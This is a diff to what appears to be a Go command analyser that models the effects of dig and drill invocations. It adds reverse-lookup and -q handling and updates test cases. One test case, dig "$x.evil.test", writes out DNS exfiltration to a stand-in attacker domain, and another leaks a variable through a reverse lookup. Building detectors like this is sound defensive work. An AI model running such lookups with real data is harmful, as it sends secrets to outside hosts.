@@ -24,9 +24,9 @@ var dig = Program{
 
 var digCases = []Case{
 	{`dig -c 1 +short h.test mx`, `Query h.test; Query mx`},
-	{`drill -q f h.test`, `Write f; Query h.test`}, {`dig -q h.test`, `nothing`},
+	{`drill -q f h.test`, `Write f; Query h.test`}, {`dig -q h.test`, `Query h.test`}, {`dig -x $x`, `Unknown an unknown word may be an option; Send …; Send …`},
 	{`dig +short h.test mx`, `Query h.test; Query mx`},
-	{`dig @ns.test -t a -x 10.0.0.1 h.test`, `Query ns.test; Query h.test`},
+	{`dig @ns.test -t a -x 10.0.0.1 h.test`, `Query 10.0.0.1; Query ns.test; Query h.test`},
 	{`dig -f l`, `Send name servers; Read l`}, {`dig -k l h.test`, `Read l; Query h.test`},
 	{`dig -u -y k:s h.test`, `Query h.test`},
 	{`dig "$x.evil.test"`, `Unknown an unknown word may be an option; Send ….evil.test`},
@@ -35,6 +35,11 @@ var digCases = []Case{
 // digNames: a name that is made of what is not known carries it to whoever
 // answers for the name.
 func digNames(m *Match) {
+	for _, h := range m.hits {
+		if h.Has && (h.Name == "-x" || h.Name == "-q" && m.name() != "drill") {
+			askName(m, h.Value)
+		}
+	}
 	for _, w := range m.Args {
 		if strings.HasPrefix(w.Text, "+") {
 			continue
